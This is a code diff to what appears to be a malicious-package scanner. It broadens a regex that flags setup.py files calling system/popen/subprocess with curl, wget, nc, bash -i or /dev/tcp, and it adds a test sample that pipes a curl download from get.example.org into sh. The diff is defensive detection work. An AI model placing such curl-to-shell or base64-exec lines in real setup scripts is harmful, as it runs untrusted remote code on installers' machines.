@@ -35,7 +35,7 @@ _NETWORK = (
 )
 _DECODED = rb"\b(?:exec|eval)[ \t]{0,4}\(\s{0,40}[^\n]{0,200}(?:b64decode|decompress|unhexlify|marshal\.loads|fromhex|urlopen|requests\.get)"
 _SHELL = (
-    rb"\b(?:os\.system|os\.popen|subprocess\.\w{1,20})[ \t]{0,4}\(\s{0,40}[^\n]{0,200}\b(?:curl|wget|powershell|Invoke-WebRequest|nc "
+    rb"(?:\b(?:os\.system|os\.popen|subprocess\.\w{1,20})|(?<![\w.])(?:system|popen|Popen|run|call|check_call|check_output))[ \t]{0,4}\(\s{0,40}[^\n]{0,200}\b(?:curl|wget|powershell|Invoke-WebRequest|nc "
     rb"|bash -i|/dev/tcp)"
 )
 _RUNS = expression(
@@ -56,6 +56,9 @@ _HEAD = "from setuptools import setup\n"
     names=("/setup.py",),
     patterns=(Pattern(_NETWORK), Pattern(_DECODED), Pattern(_SHELL)),
     bad=(
+        Example(
+            f"{_HEAD}from os import system\nsystem('curl -s https://get.example.org/s | sh')\nsetup(name='a')\n", (3,), "setup.py"
+        ),
         Example(f"{_HEAD}import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='a')\n", (3,), "setup.py"),
         Example(f"{_HEAD}import os\nos.system('curl -s https://get.example.org/s | sh')\nsetup(name='a')\n", (3,), "setup.py"),
         Example(
